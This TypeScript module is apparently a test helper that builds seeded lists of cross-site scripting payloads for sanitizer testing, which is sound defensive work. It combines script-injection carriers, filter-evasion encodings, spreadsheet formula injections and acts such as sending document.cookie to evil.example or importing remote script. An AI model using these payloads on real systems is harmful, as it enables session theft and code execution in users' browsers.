import { randomFrom } from "./random.ts";

/** What a payload wants to do once it runs. `ran` is what a test puts into the page to notice it. */
const acts = [
  "ran()",
  "top['ran']()",
  "self['r'+'an']()",
  "ran``",
  "eval('ran()')",
  "setTimeout('ran()')",
  "Function('ran()')()",
  "[].map.constructor('ran()')()",
  "alert(1)",
  "fetch('//evil.example/?'+document.cookie)",
  "import('//evil.example/x.js')",
  "location='//evil.example'",
] as const;

/** The published kinds of markup and text by which scripts get into pages; `A` is the act. */
const carriers = [
  "<script>A</script>",
  "<script src=//evil.example/x.js></script>",
  "<ScRiPt>A</sCrIpT>",
  "<scr<script>ipt>A</scr</script>ipt>",
  "<img src=x onerror=A>",
  '<img/src="x"/onerror="A">',
  "<img src=//evil.example/pixel>",
  "<svg onload=A>",
  "<svg><script>A</script></svg>",
  "<svg><animate onbegin=A attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:A"><text y=9>x',
  "<svg><use href='data:image/svg+xml,<svg id=x onload=A>#x'>",
  "<math><mtext><mglyph><style><img src=x onerror=A></style></mglyph></mtext></math>",
  '<math href="javascript:A">x</math>',
  "<body onload=A>",
  "<iframe srcdoc='<script>parent.A</script>'></iframe>",
  "<iframe src=javascript:parent.A></iframe>",
  "<object data='data:text/html,<script>A</script>'></object>",
  "<embed src=javascript:A>",
  "<a href=javascript:A>x</a>",
  "<details open ontoggle=A>x</details>",
  "<video src=x onerror=A></video>",
  "<audio><source onerror=A></audio>",
  "<input autofocus onfocus=A>",
  "<marquee onstart=A>x</marquee>",
  "<form action=javascript:A><button autofocus>x</button></form>",
  "<style>@import '//evil.example/x.css'</style><style onload=A></style>",
  "<link rel=stylesheet href=//evil.example/x.css onload=A>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=javascript:A">',
  "<template><script>A</script></template>",
  '<div style="background:url(//evil.example/x)" onmouseover=A>x</div>',
  '<noscript><p title="</noscript><img src=x onerror=A>">',
  '"><script>A</script>',
  "'><img src=x onerror=A>",
  "</textarea><script>A</script>",
  "</title><svg onload=A>",
  "</style><img src=x onerror=A>",
  "--><img src=x onerror=A><!--",
  "]]><script>A</script>",
  "javascript:A",
  "data:text/html,<script>A</script>",
  "[x](javascript:A)",
  '![x](x"onerror="A)',
  "<javascript:A>",
  "[x]: javascript:A",
  "```html\n<script>A</script>\n```",
  "| x | <img src=x onerror=A> |",
  "${A}",
  "{{constructor.constructor('A')()}}",
  '{"__html":"<img src=x onerror=A>"}',
  '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"A"}}}',
  "'-A-'",
  '";A;//',
  "\\u003cscript\\u003eA\\u003c/script\\u003e",
  '=HYPERLINK("javascript:A","x")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
] as const;

/** Ways to slip past whoever looks for the kinds above. */
const tricks: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll("RAN", "ran"),
  (text) => text.replaceAll("<", "<\u0000"),
  (text) => text.replaceAll("script", "scr\u0000ipt"),
  (text) => text.replaceAll("javascript:", "java\tscript:"),
  (text) => text.replaceAll("javascript:", "\u0001 JaVaScRiPt\n:"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#x3C;"),
  (text) => text.replaceAll("<", "\uFF1C").replaceAll(">", "\uFF1E"),
  (text) => text.replaceAll("s", "\u017F"),
  (text) => `\u202E${text}\u202C`,
  (text) => `\uFEFF\u200B${text}`,
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\u000C"),
  (text) => encodeURIComponent(text),
  (text) => `${text}${text}`,
];

/** So many different payloads, of at most so many characters, the same every time for one seed. */
export function scriptPayloads(count: number, longest: number, seed = 1): readonly string[] {
  const all = carriers.flatMap((carrier) =>
    acts.flatMap((act) => tricks.map((trick) => trick(carrier.replaceAll("A", act)))),
  );
  const fitting = [...new Set(all)].filter((payload) => payload.length <= longest);
  if (fitting.length < count) throw new RangeError(`There are only ${fitting.length} payloads of that length`);
  return randomFrom(seed).shuffled(fitting).slice(0, count);
}
